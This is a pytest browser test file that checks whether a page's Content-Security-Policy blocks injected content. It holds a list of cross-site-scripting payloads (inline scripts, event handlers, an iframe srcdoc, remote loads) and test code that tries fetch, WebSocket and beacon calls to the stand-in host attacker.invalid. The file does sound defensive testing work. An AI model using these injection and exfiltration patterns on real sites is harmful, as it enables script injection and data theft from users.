"""What the page may do is bound by its Content-Security-Policy: its own script and style, and nothing else."""

import re
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.browser.watching import Visitor

pytestmark = pytest.mark.slow
Written = Callable[[str], Path]
SLIPPED_IN = {
    "script": "<script>window.pwned = 1</script>",
    "handler": '<p id="it" onclick="window.pwned = 1">x</p>',
    "error": '<video onerror="window.pwned = 1"><source></video><img src="data:," onerror="window.pwned = 1">',
    "image": '<img src="https://attacker.invalid/pixel.png">',
    "style": '<p id="it" style="color: rgb(1, 2, 3)">x</p>',
    "sheet": "<style>p { color: rgb(1, 2, 3) }</style>",
    "link": '<link rel="stylesheet" href="https://attacker.invalid/style.css">',
    "frame": '<iframe srcdoc="&lt;script>parent.pwned = 1&lt;/script>"></iframe>',
    "object": '<object data="https://attacker.invalid/x"></object>',
    "remote": '<script src="https://attacker.invalid/x.js"></script>',
}


@pytest.mark.parametrize("kind", SLIPPED_IN)
def test_what_is_slipped_into_the_file_is_blocked(
    kind: str, visitor: Visitor, html_of: Written, tmp_path: Path
) -> None:
    """Even where someone edits the file: no other script runs, no style holds, and no request is made for anything."""
    text = html_of("nearly_empty").read_text("utf-8")
    changed = tmp_path / "changed.html"
    changed.write_text(re.sub(r"(<main[^>]*>)", lambda found: found[1] + SLIPPED_IN[kind], text, count=1), "utf-8")
    with visitor.expecting() as faults:
        page = visitor.open(changed)
        if page.locator("#it").count():
            page.locator("#it").dispatch_event("click")
    assert faults
    assert all(fault.startswith("console error") and "Content Security Policy" in fault for fault in faults)
    assert page.evaluate("typeof window.pwned") == "undefined"
    assert page.evaluate("getComputedStyle(document.querySelector('main p')).color") != "rgb(1, 2, 3)"
    assert page.evaluate("document.documentElement.classList.contains('live')")


def test_what_a_script_adds_is_blocked(visitor: Visitor, html_of: Written) -> None:
    """What is put into the open page gets no further: the script does not run, and nothing is fetched or sent."""
    page = visitor.open(html_of("nearly_empty"))
    with visitor.expecting() as faults:
        page.evaluate(
            """async () => {
              const script = document.createElement("script");
              script.textContent = "window.pwned = 1";
              const image = document.createElement("img");
              image.src = "https://attacker.invalid/pixel.png";
              document.body.append(script, image);
              await new Promise((done) => { image.onerror = done; });
              await fetch("https://attacker.invalid/data").catch(() => {});
              new WebSocket("wss://attacker.invalid/");
              navigator.sendBeacon("https://attacker.invalid/beacon", "x");
            }"""
        )
    assert len(faults) >= 3
    assert [fault for fault in faults if "request" in fault] == []
    assert all("Content Security Policy" in fault for fault in faults)


def test_the_policy_is_strict(html_of: Written) -> None:
    """Nothing by default, hashes and no unsafe word; no style attribute, no handler and no address that is fetched."""
    text = html_of("claudication").read_text("utf-8")
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', text)
    assert policy
    assert text.index(policy[0]) < min(text.index("<style"), text.index("<script"))
    rules = {words[0]: words[1:] for words in (part.split() for part in policy[1].split(";")) if words}
    assert rules["default-src"] == ["'none'"]
    assert rules["base-uri"] == rules["form-action"] == ["'none'"]
    assert "unsafe" not in policy[1]
    assert "http" not in policy[1]
    assert all(re.fullmatch(r"'sha256-[\w+/=]+'", word) for name in ("script-src", "style-src") for word in rules[name])
    outside = re.sub(r"<(script|style)[^>]*>.*?</\1>", "", text, flags=re.DOTALL)
    assert not re.search(r"<[^>]+\s(style|on\w+|src|srcset|action|formaction|background|poster)\s*=", outside)
    assert set(re.findall(r'\shref="([^"#][^"]*)"', outside)) == set()
